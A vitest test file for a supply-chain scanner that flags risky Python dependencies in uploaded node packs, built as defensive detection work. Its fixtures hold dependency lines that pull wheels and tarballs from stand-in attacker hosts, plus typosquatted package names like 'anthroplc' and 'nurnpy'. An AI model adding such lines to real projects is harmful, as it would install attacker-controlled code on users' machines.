import { describe, expect, it } from 'vitest';
import { analyzeArchive } from '../../src/engines/archive/index.js';
import { lookalikeOf } from '../../src/engines/archive/scan/dependencies.js';
import { testLimits, zipFiles } from './helpers/pack.js';

const PYPROJECT = (dependencies: string[]) =>
  [
    '[project]',
    'name = "deps"',
    'version = "1.0.0"',
    `dependencies = [${dependencies.map((d) => JSON.stringify(d)).join(', ')}]`,
    '[project.urls]',
    'Repository = "https://git.example.org/acme/deps"',
  ].join('\n');

async function findingsOf(requirements: string, dependencies: string[] = []) {
  const zip = zipFiles({
    'pyproject.toml': PYPROJECT(dependencies),
    '__init__.py': 'NODE_CLASS_MAPPINGS = {}\n',
    'requirements.txt': requirements,
  });
  const result = await analyzeArchive(zip, { name: 'deps', version: '1.0.0' }, testLimits);
  if (!result.ok) throw new Error(result.reason);
  return result.findings
    .filter((f) => f.scanner === 'dependencies')
    .map((f) => ({ rule: f.issue_type, grade: f.grade, file: f.file_path, line: f.line_number, code: f.code_snippet }));
}

describe('dependency rules', () => {
  it('holds the 2024 ComfyUI_LLMVISION pattern: look-alike wheels from a host outside the package index', async () => {
    const found = await findingsOf(
      [
        '--extra-index-url https://wheels.attacker.example/simple',
        'openai @ https://github.com/someone/llm/releases/download/v1/openai-1.16.2-py3-none-any.whl',
        'anthropic',
      ].join('\n'),
      ['anthroplc>=0.20', 'transformers @ https://files.attacker.example/transformers-4.40.0.tar.gz'],
    );
    expect(found).toEqual([
      {
        rule: 'dependency_outside_index',
        grade: 'hold',
        file: 'requirements.txt',
        line: 1,
        code: '--extra-index-url https://wheels.attacker.example/simple',
      },
      {
        rule: 'dependency_outside_index',
        grade: 'hold',
        file: 'requirements.txt',
        line: 2,
        code: 'openai @ https://github.com/someone/llm/releases/download/v1/openai-1.16.2-py3-none-any.whl',
      },
      { rule: 'dependency_lookalike', grade: 'hold', file: 'pyproject.toml', line: 4, code: 'anthroplc>=0.20' },
      {
        rule: 'dependency_outside_index',
        grade: 'hold',
        file: 'pyproject.toml',
        line: 4,
        code: 'transformers @ https://files.attacker.example/transformers-4.40.0.tar.gz',
      },
    ]);
  });

  it('holds index options, trusted hosts, remote includes and git URLs of unknown hosts', async () => {
    const found = await findingsOf(
      [
        '-i https://mirror.example.net/simple',
        '-f https://wheels.example.net/',
        '--trusted-host wheels.example.net',
        '-r https://example.net/more.txt',
        'tool @ git+https://git.unknown.example/x/tool.git',
        'numpy==1.26.4 --index-url https://idx.example.net/simple',
      ].join('\n'),
    );
    expect(found.map((f) => [f.rule, f.grade, f.line])).toEqual([
      ['dependency_outside_index', 'hold', 1],
      ['dependency_outside_index', 'hold', 2],
      ['dependency_outside_index', 'hold', 3],
      ['dependency_outside_index', 'hold', 4],
      ['dependency_outside_index', 'hold', 6],
      ['dependency_outside_index', 'hold', 5],
      ['dependency_pinned', 'label', 6],
    ]);
  });

  it('labels pins, git URLs of well-known hosts or the pack’s own host, and allowed extra indexes', async () => {
    const found = await findingsOf(
      [
        '--extra-index-url https://download.pytorch.org/whl/cu121',
        '--index-url https://pypi.org/simple',
        'torch==2.3.1',
        'git+https://github.com/cozy-comfyui/cozy_comfyui@main#egg=cozy_comfyui',
        'helper @ git+https://git.example.org/acme/helper.git',
        'numpy==1.*',
        '-e .',
      ].join('\n'),
    );
    expect(found.map((f) => [f.rule, f.grade, f.line])).toEqual([
      ['dependency_extra_index', 'label', 1],
      ['dependency_pinned', 'label', 3],
      ['dependency_git', 'label', 4],
      ['dependency_git', 'label', 5],
    ]);
  });

  it('does not mistake real packages for look-alikes', async () => {
    const benign = [
      'opencv-python-headless',
      'opencv-contrib-python',
      'onnxruntime-gpu',
      'numba',
      'numpy',
      'scapy',
      'torchx',
      'pillow-heif',
      'timm',
      'av',
      'kornia-rs',
      'imageio-ffmpeg',
      'scikit-image',
      'huggingface-hub',
      'safetensors',
      'color-matcher',
      'clip-interrogator',
      'openai-whisper',
    ];
    expect(benign.filter((name) => lookalikeOf(name) !== null)).toEqual([]);
    expect(
      ['nurnpy', 'pi11ow', 'torchvison', 'opencv-pyhton', 'requets', 'transfomers', 'safetensor'].map(lookalikeOf),
    ).toEqual(['numpy', 'pillow', 'torchvision', 'opencv-python', 'requests', 'transformers', 'safetensors']);
    expect(await findingsOf(benign.join('\n'))).toEqual([]);
  });
});
